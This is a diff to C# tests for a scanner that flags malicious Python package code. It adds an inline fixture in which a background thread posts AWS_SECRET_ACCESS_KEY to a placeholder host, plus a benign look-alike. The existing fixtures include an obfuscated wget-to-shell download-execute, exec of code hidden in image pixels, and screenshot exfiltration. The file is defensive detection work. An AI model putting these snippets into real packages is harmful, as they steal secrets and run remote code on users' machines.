@@ -110,6 +110,7 @@ public sealed class TechniqueFamilyTests
     [InlineData("import os\nh = 'x.invalid'\n_c = f\"{'wg'}{'et'} -qO- {f'http://{h}/i'} | {'s' + 'h'}\" if os.name != 'nt' else None\nos.system(_c)\n", "download-execute")]
     [InlineData("import os\nfrom PIL import Image\nP = os.path.join(os.path.dirname(__file__), 'logo.png')\n\ndef _bits(path=P):\n    return bytes(p[0] & 1 for p in Image.open(path).getdata())\n\ncode = _bits()\nexec(code)\n", "obfuscated-exec")]
     [InlineData("import requests\nfrom PIL import ImageGrab\n\ndef _shot():\n    img = ImageGrab.grab()\n    return img.tobytes()\n\nrequests.post('https://x.invalid/u', data=_shot())\n", "credential-exfiltration")]
+    [InlineData("import threading, requests, os\n\ndef _ship(v):\n    requests.post('https://x.invalid/m', json={'v': v})\n\nthreading.Thread(target=_ship, args=(os.environ.get('AWS_SECRET_ACCESS_KEY'),)).start()\n", "credential-exfiltration")]
     public async Task Round_four_families_run_at_import_are_caught(string init, string check)
     {
         var report = await Packages.ScanSdistAsync(("demo_pkg/__init__.py", init));
@@ -171,6 +172,7 @@ public sealed class TechniqueFamilyTests
     [InlineData("demo_pkg/data.py", "import pickle, urllib.request\n\ndef _open(url):\n    return urllib.request.urlopen(url)\n\ndef load(url):\n    return pickle.load(_open(url))\n")]
     [InlineData("demo_pkg/__init__.py", "import os\nfrom PIL import Image\n\ndef _palette(path):\n    return sorted(set(Image.open(path).getdata()))\n\nPALETTE = _palette(os.path.join(os.path.dirname(__file__), 'p.png'))\nexec('X = 1')\n")]
     [InlineData("demo_pkg/client.py", "import asyncio\n\nasync def ask(host, text):\n    r, w = await asyncio.open_connection(host, 80)\n    w.write(text.encode())\n    return await r.readline()\n")]
+    [InlineData("demo_pkg/__init__.py", "import threading, requests\n\ndef _ping(v):\n    requests.get('https://x.invalid/ping', params={'v': v})\n\nthreading.Thread(target=_ping, args=('1.0',)).start()\n")]
     public async Task Round_four_look_alikes_stay_benign(string path, string code)
     {
         var report = await Packages.ScanSdistAsync((path, code));
